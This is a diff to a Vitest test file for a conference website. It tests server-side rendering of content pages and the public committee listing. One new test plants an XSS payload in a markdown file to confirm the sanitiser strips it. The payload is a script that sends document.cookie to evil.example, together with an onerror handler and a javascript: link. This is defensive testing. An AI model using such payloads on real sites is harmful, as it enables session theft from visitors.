@@ -1,4 +1,4 @@
-import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { cp, mkdtemp, rm, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -6,7 +6,7 @@ import { eq } from 'drizzle-orm';
 import { LETTER_TEXTS } from '@shared/domain/letters.ts';
 import { PAGE_QUERIES_ID } from '@shared/page-rendering.ts';
 import type { PublishedProgramme } from '@shared/schemas/programme.ts';
-import { letters } from '../db/schema/index.ts';
+import { committeeMembers, letters } from '../db/schema/index.ts';
 import { PROJECT_ROOT } from '../project-paths.ts';
 import { createTestPaper, createTestUser, type TestUser } from '../test/factories.ts';
 import { OPEN_DEADLINES } from '../test/open-deadlines.ts';
@@ -137,6 +137,45 @@ describe('public pages rendered on the server', () => {
     expect(rootOf((await get('/ictacem2025/important-dates')).body)).toContain('5-7 January 2100');
     await moveTo({ conferenceStarts: dates.conferenceStarts, conferenceEnds: dates.conferenceEnds });
     expect((await get('/ictacem2025/important-dates')).body).toBe(res.body);
+  });
+
+  it('draws the content files’ texts into the HTML and sends them as the query cache; named members on Committee', async () => {
+    const about = await get('/ictacem2025/about');
+    const content = (await get(`${API}/site-content`)).json().content;
+    expect(queryData(about.body, 'site/content')).toEqual(content);
+    // The placeholders filled in: the conference's names and its days in force.
+    expect(rootOf(about.body)).toContain(
+      '<p>ICTACEM 2025 is the International Conference on Theoretical, Applied, Computational and Experimental Mechanics.',
+    );
+    expect(rootOf(about.body)).toContain('<p>The conference takes place on 4-6 January 2100 on the campus');
+    // Pages not drawn from the files carry none of it.
+    expect(queryData((await get('/ictacem2025/important-dates')).body, 'site/content')).toBeUndefined();
+
+    const committee = async () => rootOf((await get('/ictacem2025/committee')).body);
+    expect(await committee()).toMatch(/Programme Committee<\/h2><p[^>]*><span[^>]*>To be announced/);
+    await t.app.ctx.db.insert(committeeMembers).values([
+      {
+        name: '李娜',
+        email: 'li.na@example.cn',
+        affiliation: '浙江大学',
+        themes: [],
+        maxPapers: 5,
+        status: 'accepted',
+        listedPublicly: true,
+      },
+      {
+        name: 'Ольга Петрова',
+        email: 'olga@example.ru',
+        affiliation: 'СПбГУ',
+        themes: [],
+        maxPapers: 5,
+        status: 'accepted',
+      },
+    ]);
+    const named = await committee();
+    expect(named).toContain('李娜');
+    expect(named).toContain('浙江大学');
+    expect(named).not.toContain('Ольга Петрова');
   });
 
   it('links to the other pages under the base path', async () => {
@@ -413,6 +452,38 @@ describe('without a renderer that works', () => {
       expect(res.statusCode, url).toBe(status);
       expect(res.body, url).toContain('<div id="root"></div>');
       expect(res.body, url).not.toContain(PAGE_QUERIES_ID);
+    }
+  });
+});
+
+describe('a content file with a script, rendered on the server', () => {
+  it('reaches the HTML without the script, its event handlers or a javascript: link', async () => {
+    const root = await mkdtemp(path.join(os.tmpdir(), 'ictacem-ssr-content-'));
+    await writeFile(path.join(root, 'index.html'), SHELL);
+    const contentDir = path.join(root, 'edition', 'content');
+    await cp(path.join(PROJECT_ROOT, 'content'), contentDir, { recursive: true });
+    await writeFile(
+      path.join(contentDir, 'campus.md'),
+      [
+        'Hội nghị tại **Hà Nội**.<script>document.location="https://evil.example/"+document.cookie</script>',
+        '',
+        '<img src="x" onerror="alert(1)">[Register](javascript:alert(1)) or [see the dates](/important-dates).',
+      ].join('\n'),
+    );
+    const t = await createTestApp({
+      clientDir: root,
+      pageRendererModule: RENDERER,
+      conferenceFile: path.join(root, 'edition', 'conference.yaml'),
+    });
+    try {
+      const html = rootOf((await t.app.inject({ method: 'GET', url: '/ictacem2025/about' })).body);
+      expect(html).toContain('<p>Hội nghị tại <strong>Hà Nội</strong>.</p>');
+      expect(html).toContain('[Register](javascript:alert(1)) or <a class="');
+      expect(html).toContain('href="/ictacem2025/important-dates"');
+      expect(html).not.toMatch(/<script|onerror|evil\.example|<img|href="javascript/i);
+    } finally {
+      await t.close();
+      await rm(root, { recursive: true, force: true });
     }
   });
 });
